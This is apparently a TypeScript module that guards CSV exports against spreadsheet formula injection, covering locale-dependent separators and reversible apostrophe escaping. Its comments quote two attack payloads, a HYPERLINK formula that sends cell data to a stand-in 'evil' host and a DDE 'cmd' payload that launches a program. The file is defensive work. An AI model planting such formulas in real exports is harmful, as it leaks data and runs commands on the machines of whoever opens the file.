/**
 * CSV cells that are safe to open in a spreadsheet. Excel, LibreOffice and Google Sheets run a cell
 * that starts with = + - @ (and, after a tab or carriage return, whatever follows) as a formula:
 * `=HYPERLINK("http://evil/?"&A1,"open")` in a customer name ships data out the moment someone
 * opens an export. Such a cell gets a leading apostrophe, which spreadsheets show as text.
 *
 * Excel in a locale whose list separator is `;` (German, French, Dutch, …) splits an opened .csv on
 * `;` and tab, not on commas, and treats a double quote as special only at the start of what it
 * sees as a cell: `Müller;=cmd|' /C calc'!A0` became a cell `=cmd|…` that ran, quoted or not
 * (fourth security review). So a formula character after a `;` or tab (spaces and apostrophes
 * between) gets an apostrophe too: `Müller;'=cmd|…`; so does one after a line break, where that
 * Excel starts a record.
 *
 * The change is reversible (restoreCell): a value that already starts with apostrophes followed
 * by a formula character gets one more, so stripping one apostrophe from any cell that starts with
 * apostrophes and a formula character gives back exactly the original. Plain numbers (-5, +3.2,
 * 1e-3) are not formulas and stay as they are, so numeric columns keep working.
 *
 * Pure, no dependencies: ingest's rejects file uses it, and any other CSV writer can.
 */

const FORMULA_START = /^'*[=+\-@\t\r]/;
const NEUTRALISED = /^'+[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/**
 * After a `;` or tab (and spaces): where a `;`-locale Excel starts a cell. After a line break too:
 * that Excel honours our quotes only where they open a cell, so a line break inside a quoted name
 * that follows an id ends the record there, and the text after it is the first cell of a record
 * of its own (seventh security review). The apostrophe goes here.
 */
const INNER_FORMULA = /([;\t\r\n] *)(?='*[=+\-@])/g;
const INNER_NEUTRALISED = /([;\t\r\n] *)'(?='*[=+\-@])/g;

/** The value as text a spreadsheet will not evaluate, in a `,` or a `;` locale. */
export function neutraliseFormula(value: string): string {
  const start = FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
  return start.replace(INNER_FORMULA, "$1'");
}

/** The inverse of neutraliseFormula: the value as it was before. */
export function restoreCell(value: string): string {
  const inner = value.replace(INNER_NEUTRALISED, '$1');
  return NEUTRALISED.test(inner) ? inner.slice(1) : inner;
}

/**
 * Characters that make a field quoted. Beyond RFC 4180's comma, quote and line breaks: `;` and tab,
 * so that a reader that honours quotes in a `;` locale keeps the field one cell (the apostrophes
 * above are for Excel, which does not when the field is not first on its line). Leading or
 * trailing spaces are quoted too, so that no reader trims them away.
 */
const NEEDS_QUOTES = /[",;\t\n\r]/;

/** One CSV field (RFC 4180 quoting), neutralised. null and undefined are empty. */
export function csvCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  const s = neutraliseFormula(String(value));
  return NEEDS_QUOTES.test(s) || s !== s.trim() ? `"${s.replace(/"/g, '""')}"` : s;
}

/** One CSV record, without the line break. */
export const csvRow = (values: readonly unknown[]): string => values.map(csvCell).join(',');
